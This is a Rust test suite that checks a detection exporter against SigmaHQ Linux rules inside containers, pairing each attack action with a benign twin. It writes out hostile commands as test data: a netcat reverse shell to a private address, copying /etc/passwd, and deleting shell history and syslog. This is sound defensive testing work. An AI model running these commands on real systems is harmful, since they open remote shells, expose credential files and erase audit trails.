//! SigmaHQ's Linux rules, unmodified, fired from inside real runc containers: twelve
//! `process_creation` rules, one `file_event` and one `network_connection`, each by one real
//! action (busybox applets called by absolute path, so each is an exec of its own), each with a
//! benign twin that differs in what the rule looks at and must fire nothing.
//!
//! The rule files under test, and only they (the exporter alerts on the first matching rule of an
//! event, so no other rule may take an event from them), are copied at test time from
//! `../../shared/data/sigma-linux/` into a temporary directory (a copy is never committed). Names
//! are not resolved (`--names.resolve off`): no rule here needs them. Latencies are printed as
//! `LATENCY rule [container]: ms` (run with `--nocapture`).
//!
//! busybox's applets are symlinks to `/bin/busybox`, as in busybox images: `Image` is the path
//! the exec named (`/bin/dd`), not the file the link leads to (`/proc/<pid>/exe` says
//! `/bin/busybox`), so rules on `Image|endswith: /dd` fire whether or not the process is still
//! running when its exec is evaluated.

#[macro_use]
mod common;

use std::{net::Ipv4Addr, sync::OnceLock};

use common::attack::{self, suite_exporter_with, Detection, NetNs, Opts};
use common::{sample, Exporter};

/// The rule files the tests fire, by category directory.
const RULE_FILES: &[&str] = &[
    "process_creation/proc_creation_lnx_base64_decode.yml",
    "process_creation/proc_creation_lnx_cp_passwd_or_shadow_tmp.yml",
    "process_creation/proc_creation_lnx_find_shell_execution.yml",
    "process_creation/proc_creation_lnx_mkfifo_named_pipe_creation_susp_location.yml",
    "process_creation/proc_creation_lnx_touch_susp.yml",
    "process_creation/proc_creation_lnx_susp_execution_tmp_folder.yml",
    "process_creation/proc_creation_lnx_chmod_targeting_sensitive_directories.yml",
    "process_creation/proc_creation_lnx_netcat_reverse_shell.yml",
    "process_creation/proc_creation_lnx_susp_history_delete.yml",
    "process_creation/proc_creation_lnx_susp_inod_listing.yml",
    "process_creation/proc_creation_lnx_dd_file_overwrite.yml",
    "process_creation/proc_creation_lnx_clear_syslog.yml",
    "file_event/file_event_lnx_susp_cron_file_created.yml",
    "network_connection/net_connection_lnx_susp_malware_callback_port.yml",
    // Not loaded (a host-name pattern a syscall sensor cannot see), and counted as such.
    "network_connection/net_connection_lnx_domain_localtonet_tunnel.yml",
];

/// The exporter of this test binary, on a copy of [`RULE_FILES`] alone.
fn exporter() -> &'static Exporter {
    static RULES: OnceLock<(tempfile::TempDir, String)> = OnceLock::new();
    let (_, dir) = RULES.get_or_init(|| {
        let dir = tempfile::tempdir().expect("tempdir");
        for file in RULE_FILES {
            let src = common::shared_data("sigma-linux").join(file);
            let name = src.file_name().expect("a rule file name");
            std::fs::copy(&src, dir.path().join(name))
                .unwrap_or_else(|e| panic!("{}: {e} (SigmaHQ's rules beside the project)", src.display()));
        }
        let path = dir.path().to_str().expect("utf-8 path").to_owned();
        (dir, path)
    });
    suite_exporter_with(&["--rules-dir", dir, "--names.resolve", "off"])
}

/// A rule file the exporter cannot run is not silently dropped: /metrics counts it by reason.
#[test]
fn unsupported_rules_are_counted_by_reason() {
    kernel_test!(unsupported_rules_are_counted_by_reason);
    let metrics = exporter().metrics();
    assert_eq!(sample(&metrics, "tracewarden_rules_unsupported", &[("reason", "hostname-pattern")]), Some(1.0));
    assert_eq!(sample(&metrics, "tracewarden_rules_loaded", &[]), Some(14.0));
}

/// [`attack::check_silent_twins`] on this binary's exporter.
fn check_twins(rule: &str, priority: &str, attack: (&str, &Opts), benign: (&str, &Opts)) -> Detection {
    attack::check_silent_twins(exporter(), rule, priority, attack, benign)
}

/// Attack and twin with the same options; checks the alert names the exec'd image.
fn check(rule: &str, priority: &str, (attack, benign): (&str, &str), opts: Opts, image: &str) -> Detection {
    let d = check_twins(rule, priority, (attack, &opts), (benign, &opts));
    assert_eq!(d.field("proc.exec_path"), image, "{}", d.alert);
    d
}

/// One test per row: `name: rule title, priority, (attack, twin), options, image exec'd`.
macro_rules! fire_tests {
    ($($(#[doc = $doc:literal])* $name:ident: $rule:literal, $priority:literal, $actions:expr, $opts:expr, $image:literal;)*) => {$(
        $(#[doc = $doc])*
        #[test]
        fn $name() {
            kernel_test!($name);
            check($rule, $priority, $actions, $opts, $image);
        }
    )*};
}

// ---- process_creation -------------------------------------------------------------------------

fire_tests! {
    decode_base64_encoded_text: "Decode Base64 Encoded Text", "notice",
        ("echo aGkK | /bin/base64 -d >/dev/null", "echo hi | /bin/base64 >/dev/null"),
        Opts::default(), "/bin/base64";
    copy_passwd_or_shadow_from_tmp_path: "Copy Passwd Or Shadow From TMP Path", "error",
        ("/bin/cp /etc/passwd /tmp/", "/bin/cp /etc/group /tmp/"),
        Opts::writable(), "/bin/cp";
    /// find runs a shell for each file found (here only `.` itself); the twin runs `true`.
    shell_execution_via_find: "Shell Execution via Find - Linux", "error",
        ("/bin/find . -maxdepth 0 -exec /bin/sh -c : \\;", "/bin/find . -maxdepth 0 -exec /bin/true \\;"),
        Opts::default(), "/bin/find";
    named_pipe_created_via_mkfifo_in_tmp: "Potentially Suspicious Named Pipe Created Via Mkfifo", "warning",
        ("/bin/mkfifo /tmp/p", "/bin/mkfifo /var/tmp/p"),
        Opts::writable(), "/bin/mkfifo";
    /// A service file's time set back (timestomping); the twin touches it at the current time.
    touch_suspicious_service_file: "Touch Suspicious Service File", "warning",
        ("/bin/touch -t 202001010000 /tmp/x.service", "/bin/touch /tmp/x.service"),
        Opts::writable(), "/bin/touch";
    /// A program dropped in /tmp and run from there; the twin runs the same copy from /var/tmp.
    execution_from_tmp_folder: "Potentially Suspicious Execution From Tmp Folder", "warning",
        ("/bin/cp /bin/busybox /tmp/true && /tmp/true", "/bin/cp /bin/busybox /var/tmp/true && /var/tmp/true"),
        Opts::writable(), "/tmp/true";
    chmod_targeting_sensitive_directories: "Chmod Targeting Sensitive Directories", "warning",
        ("/bin/chmod 600 /etc/passwd", "/bin/chmod 700 /mnt"),
        Opts::writable(), "/bin/chmod";
    history_file_deletion: "History File Deletion", "error",
        (
            "/bin/touch /tmp/.bash_history && /bin/rm /tmp/.bash_history",
            "/bin/touch /tmp/.bash_profile && /bin/rm /tmp/.bash_profile",
        ),
        Opts::writable(), "/bin/rm";
    /// `ls -i -d /` (inode numbers tell a container's root apart: the rule's `re` modifier); the
    /// twin lists the same directory without inodes.
    container_discovery_via_inodes_listing: "Potential Container Discovery Via Inodes Listing", "notice",
        ("/bin/ls -i -d / >/dev/null", "/bin/ls -d / >/dev/null"),
        Opts::default(), "/bin/ls";
    /// dd writing zeros over a file (the rule names dd's exact paths); the twin copies a file.
    dd_file_overwrite: "DD File Overwrite", "notice",
        ("/bin/dd if=/dev/zero of=/tmp/z count=1 2>/dev/null", "/bin/dd if=/etc/passwd of=/tmp/z 2>/dev/null"),
        Opts::writable(), "/bin/dd";
    /// The syslog file removed; the twin removes another log. (The rule also reads shell command
    /// lines that truncate syslog, so neither action names syslog in a redirection.)
    syslog_removal: "Syslog Clearing or Removal Via System Utilities", "error",
        (
            "/bin/mkdir -p /var/log && /bin/touch /var/log/syslog && /bin/rm -f /var/log/syslog",
            "/bin/mkdir -p /var/log && /bin/touch /var/log/messages && /bin/rm -f /var/log/messages",
        ),
        Opts::writable(), "/bin/rm";
}

/// nc connects to a private address the test listens on, in a network namespace of its own,
/// and hands the connection to a shell (busybox's `-e` takes the rest of the line); the twin
/// hands it to cat.
#[test]
fn netcat_reverse_shell() {
    kernel_test!(netcat_reverse_shell);
    let address = Ipv4Addr::new(10, 77, 0, 1);
    let netns = NetNs::new("nc", address);
    let _listener = netns.accept_on(4444);
    let opts = Opts { netns: Some(netns.path()), ..Opts::default() };
    let (attack, twin) = (format!("/bin/nc {address} 4444 -e /bin/sh"), format!("/bin/nc {address} 4444 -e /bin/cat"));
    check("Potential Netcat Reverse Shell Execution", "error", (&attack, &twin), opts, "/bin/nc");
}

// ---- file_event -------------------------------------------------------------------------------

/// A job dropped in /etc/cron.d; the twin writes /etc/cron.daily/apt, which the rule excepts
/// (packages install it).
#[test]
fn new_cron_file_created() {
    kernel_test!(new_cron_file_created);
    let actions = (
        "/bin/mkdir -p /etc/cron.d && echo '* * * * * root true' > /etc/cron.d/tw",
        "/bin/mkdir -p /etc/cron.daily && echo true > /etc/cron.daily/apt",
    );
    let d =
        check_twins("New Cron File Created", "notice", (actions.0, &Opts::writable()), (actions.1, &Opts::writable()));
    assert_eq!(d.field("fd.name"), "/etc/cron.d/tw", "{}", d.alert);
}

// ---- network_connection -----------------------------------------------------------------------

/// A connection to port 4444 of a public address (TEST-NET-2, on the loopback of a network
/// namespace the test made, so no packet leaves the machine); the twin connects to port 4445.
#[test]
fn malware_callback_port() {
    kernel_test!(malware_callback_port);
    let address = Ipv4Addr::new(198, 51, 100, 7);
    let netns = NetNs::new("callback", address);
    let _listeners = (netns.accept_on(4444), netns.accept_on(4445));
    let opts = Opts { netns: Some(netns.path()), ..Opts::default() };
    let (attack, twin) = (format!("/bin/ssh -p 4444 {address}"), format!("/bin/ssh -p 4445 {address}"));
    let rule = "Potentially Suspicious Malware Callback Communication - Linux";
    let d = check_twins(rule, "error", (&attack, &opts), (&twin, &opts));
    assert_eq!(d.field("fd.rport"), 4444, "{}", d.alert);
}
